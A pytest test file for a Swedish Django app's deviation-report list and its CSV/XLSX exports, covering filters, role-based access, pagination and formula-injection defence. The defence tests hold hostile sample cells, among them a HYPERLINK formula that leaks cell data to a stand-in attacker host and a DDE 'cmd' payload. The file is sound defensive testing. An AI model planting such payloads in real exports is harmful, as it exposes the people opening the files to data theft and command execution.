"""The avvikelse list and its CSV/XLSX exports: filters (including the unit subtree and
dates in Swedish local time), access, pagination, and cells that must never become
spreadsheet formulas."""

import csv
import io
import re
from datetime import date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.utils import timezone

from avvikelser.models import Avvikelse, Kategori
from kvalitet.lib.kalkylark import ar_formelrisk, csv_cell
from tests.factories import AvvikelseFactory
from tests.stod import hamta_html

pytestmark = pytest.mark.django_db

STHLM = ZoneInfo("Europe/Stockholm")
NUMMER = re.compile(r'href="/avvikelser/(AVV-\d{4}-\d{4})/"')


def lista(klient, params=None):
    response = klient.get("/avvikelser/", params or {})
    assert response.status_code == 200
    return set(NUMMER.findall(response.content.decode()))


def csv_rader(klient, params=None):
    response = klient.get("/avvikelser/export.csv", params or {})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def xlsx_rader(klient, params=None):
    response = klient.get("/avvikelser/export.xlsx", params or {})
    assert response.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return wb.active


def alla_tre(klient, params=None):
    """The case numbers in the list, the CSV and the XLSX; they must agree."""
    i_lista = lista(klient, params)
    i_csv = {r[0] for r in csv_rader(klient, params)[1:]}
    i_xlsx = {r[0] for r in xlsx_rader(klient, params).iter_rows(min_row=2, values_only=True)}
    assert i_lista == i_csv == i_xlsx, (i_lista, i_csv, i_xlsx)
    return i_lista


@pytest.fixture
def urval(org, personas):
    """Four cases spread over units, types, statuses, categories and dates."""
    k1, _ = Kategori.objects.get_or_create(namn="Felaktigt utskickad information")
    k2, _ = Kategori.objects.get_or_create(namn="Avsaknad eller brist i interna rutiner")
    return {
        "a1": AvvikelseFactory(
            enhet=org["EB"],
            kategori=k1,
            rapporterad=datetime(2025, 12, 31, 23, 30, tzinfo=STHLM),
            handelsedatum=date(2025, 12, 30),
            beskrivning="Beslut med fel ADRESS skickades ut.",
        ),
        "a2": AvvikelseFactory(
            enhet=org["TEAM"],
            typ="tillbud",
            status="under_utredning",
            kategori=k2,
            rapporterad=datetime(2026, 1, 1, 0, 30, tzinfo=STHLM),
            handelsedatum=date(2025, 12, 31),
            beskrivning="Halkade i trappan vid entrén.",
        ),
        "a3": AvvikelseFactory(
            enhet=org["BUV"],
            status="avslutad",
            kategori=k1,
            rapporterad=datetime(2026, 2, 15, 12, 0, tzinfo=STHLM),
            handelsedatum=date(2026, 2, 14),
            analys="Tolken uteblev utan att meddela.",
        ),
        "a4": AvvikelseFactory(
            enhet=org["KOLL"],
            rapporterad=datetime(2025, 6, 1, 9, 0, tzinfo=STHLM),
            handelsedatum=date(2025, 5, 30),
        ),
        "k1": k1,
    }


def test_arendenummer_far_aret_i_svensk_lokal_tid(urval):
    # 2025-12-31 23:30 in Stockholm is 22:30 UTC; 2026-01-01 00:30 is 2025-12-31 23:30 UTC.
    assert urval["a1"].nummer.startswith("AVV-2025-")
    assert urval["a2"].nummer.startswith("AVV-2026-")


FILTER = [
    ("inget", {}, {"a1", "a2", "a3", "a4"}),
    ("status-rapporterad", {"status": "rapporterad"}, {"a1", "a4"}),
    ("status-under-utredning", {"status": "under_utredning"}, {"a2"}),
    ("status-avslutad", {"status": "avslutad"}, {"a3"}),
    ("typ-tillbud", {"typ": "tillbud"}, {"a2"}),
    ("typ-avvikelse", {"typ": "avvikelse"}, {"a1", "a3", "a4"}),
    ("enhet-med-team", {"enhet": "EB"}, {"a1", "a2"}),
    ("enhet-team", {"enhet": "TEAM"}, {"a2"}),
    ("avdelning", {"enhet": "MYN"}, {"a1", "a2", "a3"}),
    ("forvaltning", {"enhet": "SOC"}, {"a1", "a2", "a3", "a4"}),
    ("kategori", {"kategori": "k1"}, {"a1", "a3"}),
    ("till-nyarsafton", {"till": "2025-12-31"}, {"a1", "a4"}),
    ("fran-nyarsdagen", {"fran": "2026-01-01"}, {"a2", "a3"}),
    ("bara-nyarsafton", {"fran": "2025-12-31", "till": "2025-12-31"}, {"a1"}),
    ("bara-nyarsdagen", {"fran": "2026-01-01", "till": "2026-01-01"}, {"a2"}),
    ("fritext-beskrivning", {"q": "fel adress"}, {"a1"}),
    ("fritext-analys", {"q": "TOLKEN"}, {"a3"}),
    ("fritext-nummer", {"q": "a4"}, {"a4"}),
    ("fritext-ingen-traff", {"q": "finns inte någonstans"}, set()),
    ("kombination", {"status": "rapporterad", "enhet": "MYN"}, {"a1"}),
]


def _params(params, urval, org):
    ut = {}
    for nyckel, varde in params.items():
        if nyckel == "enhet":
            varde = org[varde].pk
        elif nyckel == "kategori":
            varde = urval[varde].pk
        elif nyckel == "q" and varde in urval:
            varde = urval[varde].nummer.lower()
        ut[nyckel] = varde
    return ut


@pytest.mark.parametrize(("params", "vantat"), [pytest.param(p, v, id=i) for i, p, v in FILTER])
def test_filter_i_lista_och_exporter(params, vantat, urval, org, klient_for):
    klient = klient_for("kvalitetssamordnare")
    assert alla_tre(klient, _params(params, urval, org)) == {urval[k].nummer for k in vantat}


def test_slutdatum_fore_startdatum_sags_i_lista_och_exporter(urval, klient_for):
    """A range that ends before it starts lists nothing and says why; the exports refuse
    it with the message rather than sending a file of headings only."""
    klient = klient_for("kvalitetssamordnare")
    params = {"fran": "2026-02-01", "till": "2026-01-01"}
    assert lista(klient, params) == set()
    assert (
        "Slutdatumet ligger före startdatumet."
        in klient.get("/avvikelser/", params).content.decode()
    )
    for format_ in ("csv", "xlsx"):
        svar = klient.get(f"/avvikelser/export.{format_}", params)
        assert svar.status_code == 400
        assert "Slutdatumet ligger före startdatumet." in svar.content.decode()


@pytest.mark.parametrize(
    ("params", "vantat"),
    [
        ({}, {"a1", "a2"}),
        ({"enhet": "EB"}, {"a1", "a2"}),
        ({"status": "avslutad"}, set()),  # a3 is in a unit the enhetschef does not manage
        ({"kategori": "k1"}, {"a1"}),
        ({"q": "tolken"}, set()),
    ],
)
def test_filter_och_atkomst_samverkar(params, vantat, urval, org, klient_for):
    klient = klient_for("enhetschef")
    assert alla_tre(klient, _params(params, urval, org)) == {urval[k].nummer for k in vantat}


def test_enhetsfiltret_erbjuder_bara_anvandarens_enheter(urval, org, klient_for):
    html = hamta_html(klient_for("enhetschef"), "/avvikelser/")
    erbjudna = set(
        re.findall(r'<option value="(\d+)"', html.split('name="enhet"')[1].split("</select>")[0])
    )
    assert erbjudna == {str(org["EB"].pk), str(org["TEAM"].pk)}


def test_csv_exportens_format(urval, klient_for):
    klient = klient_for("kvalitetssamordnare")
    response = klient.get("/avvikelser/export.csv", {"q": urval["a1"].nummer})
    idag = timezone.localdate()
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="avvikelser-{idag:%Y-%m-%d}.csv"'
    )
    rader = list(
        csv.DictReader(
            io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")), delimiter=";"
        )
    )
    assert len(rader) == 1
    rad = rader[0]
    assert rad["Ärendenummer"] == urval["a1"].nummer
    assert rad["Rapporterad"] == "2025-12-31 23:30"  # local time, not UTC
    assert rad["Händelsedatum"] == "2025-12-30"
    assert rad["Enhet"] == "Ekonomiskt bistånd"
    assert rad["Kategori"] == "Felaktigt utskickad information"
    assert rad["Gäller enskild"] == "Ja"
    assert rad["Status"] == "Rapporterad"


def test_xlsx_exportens_format(urval, klient_for):
    ws = xlsx_rader(klient_for("kvalitetssamordnare"), {"q": urval["a1"].nummer})
    rubriker = [c.value for c in ws[1]]
    rad = dict(zip(rubriker, [c.value for c in ws[2]], strict=True))
    assert rad["Rapporterad"] == datetime(2025, 12, 31, 23, 30)
    assert rad["Händelsedatum"] == datetime(2025, 12, 30)
    assert rad["Typ"] == "Avvikelse"
    assert ws.max_row == 2


def test_xlsx_har_filter_fast_rubrikrad_och_bredder(urval, klient_for):
    """The workbook opens ready to use: every column filterable, the heading row frozen,
    the columns wide enough for what they hold (a long description wider than a date)."""
    from openpyxl.utils import get_column_letter

    ws = xlsx_rader(klient_for("kvalitetssamordnare"), {})
    rubriker = [c.value for c in ws[1]]
    sista = get_column_letter(len(rubriker))
    assert ws.auto_filter.ref == f"A1:{sista}{ws.max_row}"
    assert ws.max_row > 2
    assert ws.freeze_panes == "A2"
    bredd = {r: ws.column_dimensions[get_column_letter(i)].width for i, r in enumerate(rubriker, 1)}
    assert all(10 <= b <= 60 for b in bredd.values()), bredd
    assert bredd["Vad hände"] > bredd["Händelsedatum"] >= 12
    assert bredd["Ärendenummer"] >= len("AVV-2026-0001")


# --- Formula injection ------------------------------------------------------------------------

FARLIGT = {
    "beskrivning": '=HYPERLINK("http://angripare.example/?d="&A1,"Klicka här")',
    "konsekvenser": "+SUM(1;2)",
    "omedelbara_atgarder": "-2+3+cmd|' /C calc'!A0",
    "analys": "@SUMMA(A1:A9)",
    "vidtagna_atgarder": "\t=1+1",
}


@pytest.fixture
def farligt_fall(org):
    kategori = Kategori.objects.create(namn="=1+1 kategori")
    return AvvikelseFactory(enhet=org["EB"], kategori=kategori, **FARLIGT)


def _kolumner(rubriker, rad):
    return dict(zip(rubriker, rad, strict=True))


KOLUMN = {
    "beskrivning": "Vad hände",
    "konsekvenser": "Konsekvenser",
    "omedelbara_atgarder": "Åtgärder direkt",
    "analys": "Orsaksanalys",
    "vidtagna_atgarder": "Vidtagna åtgärder",
}


def test_csv_neutraliserar_formler(farligt_fall, klient_for):
    rader = csv_rader(klient_for("kvalitetssamordnare"))
    rad = _kolumner(rader[0], rader[1])
    for falt, rubrik in KOLUMN.items():
        assert rad[rubrik] == "'" + FARLIGT[falt], rubrik
    assert rad["Kategori"] == "'=1+1 kategori"
    for cell in rader[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_skriver_formler_som_text(farligt_fall, klient_for):
    ws = xlsx_rader(klient_for("kvalitetssamordnare"))
    rubriker = [c.value for c in ws[1]]
    celler = _kolumner(rubriker, list(ws[2]))
    for falt, rubrik in KOLUMN.items():
        cell = celler[rubrik]
        assert cell.data_type == "s", rubrik
        assert cell.value == FARLIGT[falt], rubrik
    assert celler["Kategori"].data_type == "s"
    assert celler["Kategori"].value == "=1+1 kategori"
    assert all(c.data_type != "f" for c in ws[2])


@pytest.mark.parametrize(
    ("varde", "vantat"),
    [
        ("=1+1", "'=1+1"),
        ("+46 70", "'+46 70"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Vanlig text - med =tecken", "Vanlig text - med =tecken"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_csv_cell(varde, vantat):
    assert csv_cell(varde) == vantat
    assert ar_formelrisk(varde) is (vantat.startswith("'"))


# --- Pagination and the HTMX partial ----------------------------------------------------------


@pytest.fixture
def trettio(org):
    bas = timezone.now()
    return [
        AvvikelseFactory(enhet=org["EB"], rapporterad=bas - timezone.timedelta(hours=i))
        for i in range(30)
    ]


def test_sidindelning(trettio, klient_for):
    klient = klient_for("enhetschef")
    nyast_forst = [a.nummer for a in trettio]
    sida1 = hamta_html(klient, "/avvikelser/")
    sida2 = hamta_html(klient, "/avvikelser/", {"sida": 2})
    assert NUMMER.findall(sida1) == nyast_forst[:25]
    assert NUMMER.findall(sida2) == nyast_forst[25:]
    assert "Sida 1 av 2" in sida1
    assert "<strong>30</strong> avvikelser" in sida1
    # Out-of-range and non-numeric pages fall back instead of failing.
    assert NUMMER.findall(hamta_html(klient, "/avvikelser/", {"sida": "abc"})) == (nyast_forst[:25])
    assert NUMMER.findall(hamta_html(klient, "/avvikelser/", {"sida": 99})) == (nyast_forst[25:])
    # The exports are the whole selection, not a page.
    assert len(csv_rader(klient)) == 31


def test_sidlankarna_behaller_filtret(trettio, klient_for):
    html = hamta_html(klient_for("enhetschef"), "/avvikelser/", {"status": "rapporterad"})
    assert 'href="?status=rapporterad&amp;sida=2"' in html
    assert 'href="/avvikelser/export.csv?status=rapporterad"' in html


def test_htmx_far_bara_resultatdelen(trettio, klient_for):
    response = klient_for("enhetschef").get(
        "/avvikelser/", {"status": "rapporterad"}, HTTP_HX_REQUEST="true", HTTP_HX_TARGET="resultat"
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "<html" not in html
    assert len(NUMMER.findall(html)) == 25
    assert Avvikelse.objects.count() == 30
